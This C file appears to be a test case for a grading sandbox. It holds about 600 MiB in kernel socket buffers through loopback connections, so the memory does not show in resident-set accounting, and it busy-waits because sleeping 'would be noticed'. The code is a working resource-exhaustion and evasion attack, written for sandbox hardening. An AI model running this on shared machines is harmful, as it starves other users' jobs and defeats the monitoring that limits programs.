/* attack: holds 600 MiB in the buffers of connections to itself, which no resident set shows
 * lab: 02
 * expect: nothing
 */

/* What was sent and not yet received is the kernel's memory: up to 4 MiB on one side and 32 on the
 * other of each connection, and all connections of the machine share one pool of it, those of other
 * gradings too. In one test alone, for half a second, then told. */

#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
    MIB = 600,
    MOST_CONNECTIONS = 2000,
    PIECE = 256 * 1024,
    HELD_MS = 500
}; /* the lab allows 256 */

static long fill(const struct sockaddr_in *address, int listener) {
    static char piece[PIECE];
    long bytes = 0;
    ssize_t sent;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &(int){8 << 20}, sizeof(int));
    if (connect(fd, (const struct sockaddr *)address, sizeof *address) < 0)
        return -1;
    int other = accept(listener, NULL, NULL);
    setsockopt(other, SOL_SOCKET, SO_RCVBUF, &(int){8 << 20}, sizeof(int));
    while ((sent = send(fd, piece, sizeof piece, MSG_NOSIGNAL | MSG_DONTWAIT)) > 0)
        bytes += sent;
    return other < 0 ? -1 : bytes;
}

static long milliseconds(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

int main(int argc, char **argv) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof address;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    long bytes = 0, more = 0;
    if (argc < 4 || strcmp(argv[3], "--stack") != 0)
        return 9;
    setrlimit(RLIMIT_NOFILE, &(struct rlimit){2 * MOST_CONNECTIONS, 2 * MOST_CONNECTIONS});
    bind(listener, (struct sockaddr *)&address, size);
    listen(listener, 8);
    getsockname(listener, (struct sockaddr *)&address, &size);
    for (int i = 0; i < MOST_CONNECTIONS && bytes < (long)MIB << 20 && more >= 0; i++)
        bytes += more = fill(&address, listener);
    for (long end = milliseconds() + HELD_MS; milliseconds() < end;)
        ; /* sleeping would be noticed */
    fprintf(stderr, bytes >= (long)MIB << 20 ? "SECRET held %ld MiB unseen\n" : "held %ld MiB\n",
            bytes >> 20);
    return 1;
}
